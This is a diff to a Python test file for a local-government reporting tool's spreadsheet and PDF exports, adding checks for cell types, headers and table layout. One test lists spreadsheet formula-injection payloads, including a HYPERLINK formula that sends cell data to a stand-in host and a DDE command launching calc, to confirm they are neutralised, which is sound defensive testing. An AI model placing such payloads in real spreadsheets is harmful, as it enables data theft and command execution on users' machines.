@@ -11,7 +11,7 @@ from lantoa.plans.exports.docx import report_docx
 from lantoa.plans.exports.pdf import report_html, report_pdf
 from lantoa.plans.exports.xlsx import tables_xlsx
 from lantoa.plans.selectors.access import tasks_for_unit
-from lantoa.plans.selectors.documents import report_document
+from lantoa.plans.selectors.documents import Table, report_document
 from lantoa.plans.services import reports
 
 
@@ -59,12 +59,46 @@ def test_pdf_is_rendered_from_the_same_document(submitted):
     assert report_pdf(doc).startswith(b"%PDF")
 
 
-def test_xlsx_keeps_numbers_as_numbers(submitted):
+def _workbook(doc, tables=None):
+    tables = tables if tables is not None else [t for s in doc.sections for t in s.tables]
+    content = tables_xlsx(tables, unit=doc.unit_name, period=doc.period_label, heading=doc.subject)
+    return load_workbook(io.BytesIO(content))
+
+
+def test_xlsx_names_the_unit_and_period_and_keeps_numbers_as_numbers(submitted):
     doc = _document(submitted)
-    workbook = load_workbook(io.BytesIO(tables_xlsx([t for s in doc.sections for t in s.tables], heading=doc.subject)))
-    sheet = workbook.worksheets[0]
-    values = [row for row in sheet.iter_rows(values_only=True) if row[1] == "Số buổi sinh hoạt, tuyên truyền"]
-    assert values[0][3] == 1234
+    sheet = _workbook(doc).worksheets[0]
+    assert sheet["A1"].value == doc.subject
+    assert (sheet["A2"].value, sheet["B2"].value) == ("Đơn vị", "Xã Bình Hòa")
+    assert (sheet["A3"].value, sheet["B3"].value) == ("Kỳ", submitted.period.label)
+    row = next(r for r in sheet.iter_rows() if r[1].value == "Số buổi sinh hoạt, tuyên truyền")
+    assert row[3].value == 1234
+    assert row[3].data_type == "n"
+
+
+def test_xlsx_stores_dates_as_dates_and_pdf_tables_keep_rows_whole(submitted):
+    doc = _document(submitted)
+    table = Table("Nhiệm vụ", ["Nhiệm vụ", "Hạn"], [["Tổ chức hội nghị", dt.date(2026, 6, 30)]])
+    cell = _workbook(doc, [table]).worksheets[0]["B6"]
+    assert cell.is_date
+    assert cell.value.date() == dt.date(2026, 6, 30)
+    assert cell.number_format == "dd/mm/yyyy"
+    html = report_html(doc)
+    assert "thead{display:table-header-group}" in html
+    assert "tr{break-inside:avoid" in html
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1:A9)", "-2+3", "\t=1"],
+)
+def test_xlsx_cells_never_run_a_formula(submitted, hostile):
+    doc = _document(submitted)
+    table = Table("Doanh nghiệp", ["Tên", "Số"], [[hostile, 5]])
+    row = _workbook(doc, [table]).worksheets[0][6]
+    assert row[0].value == "'" + hostile
+    assert row[0].data_type == "s"
+    assert (row[1].value, row[1].data_type) == (5, "n")
 
 
 def test_plans_report_command_writes_the_province_report_by_default(fake_sources, provincial_plan, tmp_path, capsys):
